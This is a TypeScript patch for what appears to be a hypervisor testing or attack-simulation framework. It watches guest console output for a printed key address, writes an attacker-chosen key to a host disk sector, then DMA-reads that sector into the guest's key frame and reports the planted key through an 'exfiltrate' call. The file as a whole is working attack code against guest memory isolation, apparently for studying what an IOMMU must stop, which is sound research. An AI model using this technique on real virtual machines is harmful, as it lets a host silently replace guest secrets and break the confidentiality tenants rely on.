// DMA into guest memory: the VMM writes a key of its choosing to a sector of the host disk, then
// asks the disk controller to read that sector straight into the guest's key frame. The CPU never
// touches the frame: only an IOMMU can stop the device.
import type { VmmApi } from 'hyp';

/** What this patch keeps of a domain (the VMM's own bookkeeping, from 'domain.create'). */
interface Dom {
  readonly hgatp: number;
  readonly vmid: number;
  readonly vcpus: readonly number[];
  translate(gpa: number): number;
}

function parseHex(text: string, from: number): number {
  let value = 0;
  let i = from;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const digit = c >= 48 && c <= 57 ? c - 48 : c >= 97 && c <= 102 ? c - 87 : -1;
    if (digit < 0) break;
    value = value * 16 + digit;
  }
  return i === from ? -1 : value;
}

/** Calls `found` with the key's guest physical address when a guest prints `secret where`. */
function watchKeys(vmm: VmmApi, found: (domain: number, gpa: number) => void): void {
  const seen = new Map<number, string>();
  vmm.wrap('console.flush', (original, domain, bytes) => {
    let text = (seen.get(domain) ?? '') + String.fromCharCode(...bytes);
    const at = text.indexOf('SECRET where va ');
    const pa = at < 0 ? -1 : text.indexOf(' pa 0x', at);
    const end = pa < 0 ? -1 : text.indexOf(' len', pa);
    if (end > 0) {
      found(domain, parseHex(text, pa + 6));
      text = text.slice(end);
    }
    seen.set(domain, text.slice(-200));
    return original(domain, bytes);
  });
}

const SCRATCH = 0x800f0000;
const SECTOR = 2048;

export default definePatch({
  name: "DMA into a guest's key frame",
  description: "Reads a planted sector from the host disk into the guest's key frame.",
  install(vmm, hyp) {
    const domains = new Map<number, Dom>();
    vmm.hooks.on('domain.create', (domain, info) => {
      domains.set(domain, info);
    });
    watchKeys(vmm, (domain, gpa) => {
      const info = domains.get(domain);
      if (!info) return;
      const planted = new Uint8Array(512);
      for (let i = 0; i < 32; i++) planted[i] = 0x3c ^ (i * 11);
      hyp.mem.write(SCRATCH, planted);
      hyp.disk.submit({ op: 'write', sector: SECTOR, count: 1, pa: SCRATCH });
      vmm.exfiltrate(`dom${domain} planted key`, planted.slice(0, 32));
      hyp.disk.submit({ op: 'read', sector: SECTOR, count: 1, pa: info.translate(gpa) });
      hyp.disk.poll();
    });
  },
});
